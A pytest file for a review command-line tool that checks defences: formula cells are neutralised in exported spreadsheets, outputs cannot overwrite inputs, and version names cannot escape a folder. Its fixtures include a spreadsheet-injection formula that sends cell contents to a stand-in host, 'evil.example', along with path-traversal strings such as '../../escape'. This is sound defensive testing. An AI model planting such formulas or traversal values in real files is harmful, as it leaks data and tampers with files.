"""Issue #11 in the review commands: outputs over inputs (item 1), formula cells in the sheet (item 2),
`apply --version` that would escape the codebook folder (item 12), apply options that cannot act."""

from __future__ import annotations

import csv
import io

import pytest
from review_helpers import built_queue, read_jsonl, tree_state
from typer.testing import CliRunner

from classify.cli.main import app

runner = CliRunner()


def _cli(*args):
    res = runner.invoke(app, [str(a) for a in args])
    return res, " ".join(res.output.split())


@pytest.fixture
def setup(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return built_queue(tmp_path)


def _sheet_rows(path):
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def _write_sheet(path, rows):
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0]))
    w.writeheader()
    w.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


# ---------------------------------------------------------------- item 2: formula cells


def test_sheet_neutralises_formula_cells_and_the_round_trip_is_exact(setup):
    s = setup
    sheet = s["tmp"] / "review" / "sheet.csv"
    assert _cli("review", "export", "-q", s["queue"], "-o", sheet)[0].exit_code == 0
    rows = _sheet_rows(sheet)
    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows[0].update(action="set", label="documentation_defect", note=note)
    rows[0].update(
        proposal="add_category",
        proposal_category="documentation_defect",
        proposal_group="usage",
        proposal_text="-Wrong or inconsistent documentation.",
    )
    _write_sheet(sheet, rows)
    res, out = _cli("review", "import", sheet, "-q", s["queue"], "-r", "dana")
    assert res.exit_code == 0, out
    assert read_jsonl(s["dec"])[0]["note"] == note

    assert _cli("review", "export", "-q", s["queue"], "-o", sheet)[0].exit_code == 0
    raw = sheet.read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "a formula reached the sheet"
    assert "'" + note in cells and "'-Wrong or inconsistent documentation." in cells
    # the neutralised cells read back as they were: nothing changed
    res, out = _cli("review", "import", sheet, "-q", s["queue"], "-r", "dana")
    assert res.exit_code == 0, out
    assert "0 new or changed decisions, 1 unchanged" in out


# ---------------------------------------------------------------- item 1: outputs over inputs


def test_review_outputs_that_are_inputs_are_refused(setup):
    s = setup
    before = tree_state(s["tmp"] / "gold", s["tmp"] / "codebook", s["tmp"] / "review", s["tmp"] / "evals")
    sheet = s["tmp"] / "review" / "sheet.csv"
    _cli("review", "export", "-q", s["queue"], "-o", sheet)
    before[str(sheet)] = tree_state(sheet.parent)[str(sheet)]
    build = ("-e", s["tmp"] / "evals" / "20260101-000000-fake", "-g", s["gold"], "-t", s["tax"])
    cases = [
        ("review", "export", "-q", s["queue"], "-o", s["queue"]),
        ("review", "export", "-q", s["queue"], "-o", "gold/../gold/reports.jsonl"),
        ("review", "export", "-q", s["queue"], "-d", s["dec"], "-o", "review/./decisions.jsonl"),
        ("review", "import", sheet, "-q", s["queue"], "-d", sheet),
        ("review", "import", sheet, "-q", s["queue"], "-d", s["queue"]),
        ("review", "build", *build, "-o", s["gold"], "--force"),
        ("review", "build", *build, "-o", s["tax"], "--force"),
        ("review", "build", *build, "-o", "evals/20260101-000000-fake/q.json"),
        ("review", "session", "-q", s["queue"], "-d", s["gold"]),
    ]
    for args in cases:
        res, out = _cli(*args)
        assert res.exit_code == 2, (args, out)
        assert "is one of the inputs" in out or "is inside the input" in out, (args, out)
    assert tree_state(s["tmp"] / "gold", s["tmp"] / "codebook", s["tmp"] / "review", s["tmp"] / "evals") == before


# ---------------------------------------------------------------- item 12: --version


@pytest.mark.parametrize("version", ["../../escape", "a/b", "..", "2/..", "", "-rf", "v2\\x"])
def test_apply_version_that_is_not_a_file_name_part_is_refused(setup, version):
    s = setup
    sheet = s["tmp"] / "review" / "sheet.csv"
    _cli("review", "export", "-q", s["queue"], "-o", sheet)
    rows = _sheet_rows(sheet)
    rows[0].update(action="keep", proposal="add_include", proposal_category="api_misuse", proposal_text="a cue")
    _write_sheet(sheet, rows)
    assert _cli("review", "import", sheet, "-q", s["queue"])[0].exit_code == 0
    before = tree_state(s["tmp"])
    res, out = _cli("review", "apply", "-q", s["queue"], "--version", version)
    assert res.exit_code == 2, out
    assert "cannot be part of a file name" in out
    assert tree_state(s["tmp"]) == before
    res, out = _cli("review", "apply", "-q", s["queue"], "--version", "2.1-rc1")
    assert res.exit_code == 0, out
    assert (s["tmp"] / "codebook" / "taxonomy-v2.1-rc1.yaml").is_file()


def test_apply_options_for_a_taxonomy_version_are_refused_when_none_is_written(setup):
    s = setup
    sheet = s["tmp"] / "review" / "sheet.csv"
    _cli("review", "export", "-q", s["queue"], "-o", sheet)
    rows = _sheet_rows(sheet)
    rows[0].update(action="keep")
    _write_sheet(sheet, rows)
    assert _cli("review", "import", sheet, "-q", s["queue"])[0].exit_code == 0
    for extra in (["--version", "7"], ["--note", "x"], ["--out-taxonomy", "codebook/t.yaml"]):
        res, out = _cli("review", "apply", "-q", s["queue"], *extra)
        assert res.exit_code == 2 and "no taxonomy version is written" in out, out
    assert _cli("review", "apply", "-q", s["queue"])[0].exit_code == 0


def test_apply_same_path_for_gold_and_taxonomy_is_refused(setup):
    s = setup
    sheet = s["tmp"] / "review" / "sheet.csv"
    _cli("review", "export", "-q", s["queue"], "-o", sheet)
    rows = _sheet_rows(sheet)
    rows[0].update(action="keep", proposal="add_include", proposal_category="api_misuse", proposal_text="a cue")
    _write_sheet(sheet, rows)
    assert _cli("review", "import", sheet, "-q", s["queue"])[0].exit_code == 0
    res, out = _cli("review", "apply", "-q", s["queue"], "--out-gold", "new.yaml", "--out-taxonomy", "./new.yaml")
    assert res.exit_code == 2 and "same file" in out, out
    assert not (s["tmp"] / "new.yaml").exists()
